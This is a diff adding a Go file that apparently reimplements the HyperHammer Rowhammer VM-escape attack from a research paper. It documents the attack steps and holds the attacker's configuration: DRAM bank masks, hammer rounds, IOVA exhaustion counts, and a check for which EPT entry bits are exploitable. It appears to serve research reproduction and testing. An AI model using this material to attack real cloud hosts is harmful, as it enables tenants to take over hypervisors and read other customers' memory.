@@ -1,0 +1,145 @@
+// Package attack implements HyperHammer itself — the paper's primary
+// contribution. It contains the three attack steps of Section 4:
+//
+//   - memory profiling (Profile): find Rowhammer-vulnerable bits in
+//     the VM's memory using the THP low-21-bit address correspondence,
+//   - Page Steering (PageSteer): exhaust the host's small unmovable
+//     free blocks through vIOMMU, voluntarily release the vulnerable
+//     hugepages through the modified virtio-mem driver, and force the
+//     hypervisor to allocate EPT pages onto them by triggering the
+//     iTLB Multihit countermeasure,
+//   - exploitation (Exploit): hammer the steered EPTEs, detect mapping
+//     changes via magic values, identify and validate stolen EPT
+//     pages, and escalate to arbitrary host memory access.
+//
+// All attack code operates exclusively through the guest.OS interface:
+// it sees only what a malicious tenant sees. The sole exception is the
+// GPA-to-HPA debug hypercall, which the paper itself adds for the
+// Section 5.3.2 experiment and which only Campaign uses to reuse
+// profiling results across VM respawns.
+package attack
+
+import (
+	"fmt"
+	"math/bits"
+
+	"hyperhammer/internal/memdef"
+)
+
+// Config holds the attacker's parameters and platform knowledge.
+type Config struct {
+	// BankMasks is the DRAM bank function recovered with a
+	// DRAMDig-style tool on the same processor model (Section 5.1).
+	// Only bits below 21 matter to the attacker: within a THP-backed
+	// hugepage they determine relative bank equality.
+	BankMasks []uint64
+	// RowShift is the lowest physical address bit of the DRAM row
+	// number (18 on both evaluated machines), also recovered offline.
+	RowShift uint
+	// HammerRounds is the activation count per hammer pattern
+	// (250,000 in the evaluation).
+	HammerRounds int
+	// StabilityRetests is how many re-hammers a bit must survive to
+	// be considered stable.
+	StabilityRetests int
+	// HostMemBits is ceil(log2(host memory size)); flips above it in
+	// a PFN would point outside physical memory (Section 4.1). The
+	// attacker knows the machine's nominal memory size.
+	HostMemBits uint
+	// TargetBits is the number of vulnerable bits exploited per
+	// attempt (12 in the evaluation: 12 GiB of guest memory at 1 GiB
+	// per bit).
+	TargetBits int
+	// IOVABase is the first I/O virtual address used for free-list
+	// exhaustion (0x1_0000_0000 in the evaluation).
+	IOVABase memdef.IOVA
+	// IOVAMappings is the number of 2 MiB-spaced DMA mappings used to
+	// exhaust noise pages (60,000 in the evaluation).
+	IOVAMappings int
+	// ProfileHugepages caps how many 2 MiB hugepages the profiler
+	// allocates (0 = all available guest memory).
+	ProfileHugepages int
+	// StopAfterExploitable ends profiling early once this many
+	// stable exploitable bits are found (0 = full profile). The
+	// end-to-end attack stops at TargetBits (Section 5.3.3).
+	StopAfterExploitable int
+	// SpraySeed, when nonzero, sprays the EPTE-creation buffer in a
+	// seeded-random hugepage order instead of sequentially. Varying
+	// the seed across attempts redraws which guest chunk's EPT page
+	// lands on the vulnerable frame — and therefore the EPTE bit
+	// value at the vulnerable position, which must oppose the cell's
+	// fixed flip direction for the flip to land (Section 4.3,
+	// "Improving Success Rates"). The ordering is entirely under the
+	// attacker's control.
+	SpraySeed uint64
+
+	// postMarkHook, when set, runs between Exploit's magic-marking
+	// pass and its hammering pass. Test-only: it lets rigged-flip
+	// tests inject the exact memory state a successful flip produces
+	// at the moment a real flip would land.
+	postMarkHook func()
+}
+
+// DefaultConfig returns the evaluation parameters of Section 5 for a
+// 16 GiB host. bankMasks is the platform-specific bank function.
+func DefaultConfig(bankMasks []uint64) Config {
+	return Config{
+		BankMasks:        bankMasks,
+		RowShift:         18,
+		HammerRounds:     250_000,
+		StabilityRetests: 3,
+		HostMemBits:      34,
+		TargetBits:       12,
+		IOVABase:         0x1_0000_0000,
+		IOVAMappings:     60_000,
+	}
+}
+
+// Validate checks the configuration for obvious mistakes.
+func (c Config) Validate() error {
+	if len(c.BankMasks) == 0 {
+		return fmt.Errorf("attack: no bank masks configured")
+	}
+	if c.RowShift == 0 || c.RowShift >= memdef.HugePageShift {
+		return fmt.Errorf("attack: row shift %d outside hugepage", c.RowShift)
+	}
+	if c.HammerRounds <= 0 {
+		return fmt.Errorf("attack: hammer rounds %d", c.HammerRounds)
+	}
+	if c.HostMemBits <= memdef.HugePageShift {
+		return fmt.Errorf("attack: host memory bits %d too small", c.HostMemBits)
+	}
+	return nil
+}
+
+// bankClass computes the relative DRAM bank class of an offset within
+// a 2 MiB hugepage. Because every bank-function bit below 21 is
+// preserved by THP translation, two offsets of the same hugepage with
+// equal classes are guaranteed to share a physical DRAM bank — the
+// observation that makes profiling tractable (Section 4.1).
+func (c Config) bankClass(off uint64) int {
+	const low21 = uint64(1)<<memdef.HugePageShift - 1
+	cls := 0
+	for i, m := range c.BankMasks {
+		cls |= int(bits.OnesCount64(off&m&low21)&1) << i
+	}
+	return cls
+}
+
+// bankClasses returns the number of distinguishable bank classes.
+func (c Config) bankClasses() int { return 1 << len(c.BankMasks) }
+
+// rowSpan returns the size of one DRAM row-span (the stride between
+// consecutive row numbers), 256 KiB on the evaluated machines.
+func (c Config) rowSpan() uint64 { return 1 << c.RowShift }
+
+// rowsPerHuge returns how many row-spans one hugepage contains (8).
+func (c Config) rowsPerHuge() int { return int(memdef.HugePageSize / c.rowSpan()) }
+
+// exploitableBit reports whether a flip at the given bit position of
+// an 8-byte-aligned group would usefully corrupt an EPTE: PFN bits
+// that move the mapping beyond the flip's own 2 MiB page but stay
+// inside physical memory, i.e. bits 21..HostMemBits-1 (Section 4.1).
+func (c Config) exploitableBit(bit uint) bool {
+	return bit >= memdef.HugePageShift && bit < c.HostMemBits
+}
